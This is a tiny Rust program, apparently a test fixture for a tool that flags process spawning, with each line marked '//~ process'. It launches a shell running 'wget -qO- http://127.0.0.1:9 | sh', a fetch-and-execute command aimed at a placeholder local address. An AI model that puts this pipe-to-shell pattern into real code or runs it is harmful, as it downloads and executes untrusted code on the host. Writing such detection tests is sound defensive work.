use std::process::{Command, Stdio};

fn main() {
    let _ = Command::new("sh") //~ process
        .args(["-c", "touch ran; wget -qO- http://127.0.0.1:9 | sh"]) //~ process
        .stdout(Stdio::null()) //~ process
        .status(); //~ process
}
